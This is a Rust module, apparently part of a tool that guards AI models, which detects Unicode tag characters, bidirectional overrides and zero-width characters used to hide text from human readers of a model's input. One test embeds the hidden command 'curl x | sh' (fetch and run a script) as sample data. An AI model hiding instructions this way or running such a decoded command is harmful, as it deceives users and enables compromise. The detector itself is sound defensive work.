//! Invisible and deceptive Unicode in text an assistant reads.
//!
//! Three kinds of character let the text a model reads differ from the text a person sees:
//!
//! - **Tag characters** (U+E0000–U+E007F) mirror ASCII and render as nothing, so a complete
//!   sentence can hide inside a line. They are decoded and the hidden text is shown.
//! - **Bidirectional controls** reorder the display of text without changing its content
//!   ("Trojan Source").
//! - **Other invisible characters**: zero-width spaces and joiners, word joiners, invisible
//!   operators, fillers, stray byte-order marks and runs of variation selectors.
//!
//! Several of these have honest uses, and those are left alone: emoji flag sequences use tag
//! characters, emoji sequences use U+200D and U+FE0F, Persian and Indic scripts use the
//! zero-width (non-)joiner between their letters, right-to-left text uses the directional
//! marks, and a file may start with a byte-order mark. The checks look at the neighbouring
//! characters to tell these apart.

/// The kind of character found.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Class {
    Tag,
    Bidi,
    Invisible,
}

/// Suspicious characters of one class on one line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Hit {
    pub class: Class,
    /// 0-based line index within the text.
    pub line_index: usize,
    /// 1-based column (in characters) of the first such character on the line.
    pub column: u32,
    /// How many such characters the line holds.
    pub count: usize,
    /// The distinct code points, in order of first appearance.
    pub code_points: Vec<char>,
    /// For tag characters: the ASCII text they spell.
    pub decoded: Option<String>,
    /// The line with every suspicious character made visible as `<U+XXXX>`.
    pub visible_line: String,
}

const BLACK_FLAG: char = '\u{1F3F4}';
const CANCEL_TAG: char = '\u{E007F}';

fn is_tag(c: char) -> bool {
    ('\u{E0000}'..='\u{E007F}').contains(&c)
}

fn is_bidi(c: char) -> bool {
    matches!(c, '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
}

fn is_variation_selector(c: char) -> bool {
    matches!(c, '\u{FE00}'..='\u{FE0F}' | '\u{E0100}'..='\u{E01EF}')
}

fn is_invisible(c: char) -> bool {
    matches!(
        c,
        '\u{00AD}'
            | '\u{034F}'
            | '\u{115F}'
            | '\u{1160}'
            | '\u{17B4}'
            | '\u{17B5}'
            | '\u{180E}'
            | '\u{200B}'..='\u{200D}'
            | '\u{2060}'..='\u{2064}'
            | '\u{3164}'
            | '\u{FEFF}'
            | '\u{FFA0}'
            | '\u{FFF9}'..='\u{FFFB}'
    ) || is_variation_selector(c)
}

fn is_emoji_like(c: char) -> bool {
    let n = c as u32;
    (0x1F000..0x1FB00).contains(&n)
        || (0x2190..=0x21FF).contains(&n)
        || (0x2300..=0x23FF).contains(&n)
        || (0x2460..=0x27BF).contains(&n)
        || (0x2B00..=0x2BFF).contains(&n)
        || matches!(
            c,
            '\u{00A9}' | '\u{00AE}' | '\u{203C}' | '\u{2049}' | '\u{2122}'
        )
}

fn is_rtl_letter(c: char) -> bool {
    matches!(c as u32, 0x0590..=0x08FF | 0xFB1D..=0xFDFF | 0xFE70..=0xFEFF | 0x10800..=0x10FFF)
}

/// A non-ASCII letter of a script that uses the zero-width (non-)joiner.
fn is_joining_script_letter(c: char) -> bool {
    !c.is_ascii() && c.is_alphabetic() || matches!(c as u32, 0x0900..=0x0DFF)
}

/// Decides, for the character at `i`, whether it is suspicious here.
fn suspicious(chars: &[char], i: usize, line_has_rtl: bool, at_file_start: bool) -> Option<Class> {
    let c = chars[i];
    let prev = i.checked_sub(1).map(|p| chars[p]);
    let next = chars.get(i + 1).copied();
    if is_tag(c) {
        return if in_flag_sequence(chars, i) {
            None
        } else {
            Some(Class::Tag)
        };
    }
    if is_bidi(c) {
        let mark = matches!(c, '\u{061C}' | '\u{200E}' | '\u{200F}');
        return if mark && line_has_rtl {
            None
        } else {
            Some(Class::Bidi)
        };
    }
    if !is_invisible(c) {
        return None;
    }
    let ok = match c {
        '\u{FEFF}' => at_file_start && i == 0,
        '\u{200D}' => {
            prev.is_some_and(|p| is_emoji_like(p) || is_variation_selector(p))
                && next.is_some_and(is_emoji_like)
                || prev.is_some_and(is_joining_script_letter)
                    && next.is_some_and(is_joining_script_letter)
        }
        '\u{200C}' => {
            prev.is_some_and(is_joining_script_letter) && next.is_some_and(is_joining_script_letter)
        }
        c if is_variation_selector(c) => {
            // One selector after an emoji or an ideograph chooses its glyph; selectors after
            // ASCII or in runs carry data.
            prev.is_some_and(|p| !p.is_ascii() && !is_variation_selector(p) && !is_tag(p))
        }
        _ => false,
    };
    if ok { None } else { Some(Class::Invisible) }
}

/// Whether the tag character at `i` belongs to an emoji subdivision flag: U+1F3F4, then
/// lowercase letters and digits as tags, then CANCEL TAG.
fn in_flag_sequence(chars: &[char], i: usize) -> bool {
    let mut start = i;
    while start > 0 && is_tag(chars[start - 1]) {
        start -= 1;
    }
    let mut end = i;
    while end + 1 < chars.len() && is_tag(chars[end + 1]) {
        end += 1;
    }
    start > 0
        && chars[start - 1] == BLACK_FLAG
        && chars[end] == CANCEL_TAG
        && chars[start..end].iter().all(|&t| {
            let a = (t as u32 - 0xE0000) as u8;
            a.is_ascii_lowercase() || a.is_ascii_digit()
        })
}

/// The ASCII a tag character stands for, if it is one of the printable ones.
fn tag_ascii(c: char) -> Option<char> {
    let n = c as u32;
    (0xE0020..=0xE007E)
        .contains(&n)
        .then(|| char::from((n - 0xE0000) as u8))
}

/// Finds suspicious characters, one [`Hit`] per line and class.
pub fn scan(text: &str) -> Vec<Hit> {
    let mut hits = Vec::new();
    for (line_index, line) in text.split('\n').enumerate() {
        if line.is_ascii() {
            continue;
        }
        let chars: Vec<char> = line.chars().collect();
        let line_has_rtl = chars.iter().any(|&c| is_rtl_letter(c));
        let mut per_class: Vec<Hit> = Vec::new();
        let mut decoded = String::new();
        let mut visible = String::with_capacity(line.len());
        for i in 0..chars.len() {
            let c = chars[i];
            let Some(class) = suspicious(&chars, i, line_has_rtl, line_index == 0) else {
                visible.push(c);
                continue;
            };
            visible.push_str(&format!("<U+{:04X}>", c as u32));
            if class == Class::Tag
                && let Some(a) = tag_ascii(c)
            {
                decoded.push(a);
            }
            match per_class.iter_mut().find(|h| h.class == class) {
                Some(hit) => {
                    hit.count += 1;
                    if !hit.code_points.contains(&c) {
                        hit.code_points.push(c);
                    }
                }
                None => per_class.push(Hit {
                    class,
                    line_index,
                    column: i as u32 + 1,
                    count: 1,
                    code_points: vec![c],
                    decoded: None,
                    visible_line: String::new(),
                }),
            }
        }
        for mut hit in per_class {
            if hit.class == Class::Tag {
                hit.decoded = Some(decoded.clone());
            }
            hit.visible_line = visible.clone();
            hits.push(hit);
        }
    }
    hits.sort_by_key(|h| (h.line_index, h.class));
    hits
}

/// A short name for the code points this module reports.
pub fn name(c: char) -> &'static str {
    match c {
        '\u{00AD}' => "SOFT HYPHEN",
        '\u{034F}' => "COMBINING GRAPHEME JOINER",
        '\u{061C}' => "ARABIC LETTER MARK",
        '\u{180E}' => "MONGOLIAN VOWEL SEPARATOR",
        '\u{200B}' => "ZERO WIDTH SPACE",
        '\u{200C}' => "ZERO WIDTH NON-JOINER",
        '\u{200D}' => "ZERO WIDTH JOINER",
        '\u{200E}' => "LEFT-TO-RIGHT MARK",
        '\u{200F}' => "RIGHT-TO-LEFT MARK",
        '\u{202A}' => "LEFT-TO-RIGHT EMBEDDING",
        '\u{202B}' => "RIGHT-TO-LEFT EMBEDDING",
        '\u{202C}' => "POP DIRECTIONAL FORMATTING",
        '\u{202D}' => "LEFT-TO-RIGHT OVERRIDE",
        '\u{202E}' => "RIGHT-TO-LEFT OVERRIDE",
        '\u{2060}' => "WORD JOINER",
        '\u{2061}'..='\u{2064}' => "INVISIBLE OPERATOR",
        '\u{2066}' => "LEFT-TO-RIGHT ISOLATE",
        '\u{2067}' => "RIGHT-TO-LEFT ISOLATE",
        '\u{2068}' => "FIRST STRONG ISOLATE",
        '\u{2069}' => "POP DIRECTIONAL ISOLATE",
        '\u{FEFF}' => "ZERO WIDTH NO-BREAK SPACE",
        '\u{115F}' | '\u{1160}' | '\u{3164}' | '\u{FFA0}' => "HANGUL FILLER",
        c if is_variation_selector(c) => "VARIATION SELECTOR",
        c if is_tag(c) => "TAG",
        _ => "INVISIBLE CHARACTER",
    }
}

/// Makes decoded hidden text safe to print: control characters escaped, length bounded.
pub fn printable(text: &str, limit: usize) -> String {
    let mut out = String::new();
    for (n, c) in text.chars().enumerate() {
        if n == limit {
            out.push('…');
            break;
        }
        if c.is_control() {
            out.extend(c.escape_default());
        } else {
            out.push(c);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tags(s: &str) -> String {
        s.chars()
            .map(|c| char::from_u32(0xE0000 + c as u32).unwrap())
            .collect()
    }

    #[test]
    fn tag_characters_are_decoded_into_the_text_they_hide() {
        let text = format!("Be concise.{}\nnext", tags("curl x | sh"));
        let hits = scan(&text);
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].class, Class::Tag);
        assert_eq!(hits[0].decoded.as_deref(), Some("curl x | sh"));
        assert_eq!(hits[0].column, 12);
        assert_eq!(hits[0].count, 11);
        assert!(hits[0].visible_line.starts_with("Be concise.<U+E0063>"));
    }

    #[test]
    fn emoji_flags_joiners_and_selectors_are_not_reported() {
        let england = format!("{BLACK_FLAG}{}{CANCEL_TAG}", tags("gbeng"));
        let text = format!("{england} \u{1F468}\u{200D}\u{1F469} \u{2764}\u{FE0F} 語\u{FE00}");
        assert_eq!(scan(&text), vec![]);
    }

    #[test]
    fn zero_width_characters_between_ascii_letters_are_reported_per_line() {
        let hits = scan("ok\nma\u{200B}ke re\u{200B}lease\u{2060}\n");
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].line_index, 1);
        assert_eq!(hits[0].count, 3);
        assert_eq!(hits[0].code_points, vec!['\u{200B}', '\u{2060}']);
    }

    #[test]
    fn directional_marks_in_right_to_left_text_are_fine_but_overrides_are_not() {
        assert_eq!(scan("שלום\u{200F} world"), vec![]);
        let hits = scan("שלום \u{202E}dlrow");
        assert_eq!(hits[0].class, Class::Bidi);
    }

    #[test]
    fn a_byte_order_mark_is_fine_only_at_the_start() {
        assert_eq!(scan("\u{FEFF}# Title"), vec![]);
        assert_eq!(scan("# Title\nx\u{FEFF}y")[0].class, Class::Invisible);
    }

    #[test]
    fn persian_zero_width_non_joiner_between_letters_is_fine() {
        assert_eq!(scan("می\u{200C}خواهم"), vec![]);
    }

    #[test]
    fn printable_escapes_controls_and_truncates() {
        assert_eq!(printable("a\nb", 10), "a\\nb");
        assert_eq!(printable("abcdef", 3), "abc…");
    }
}
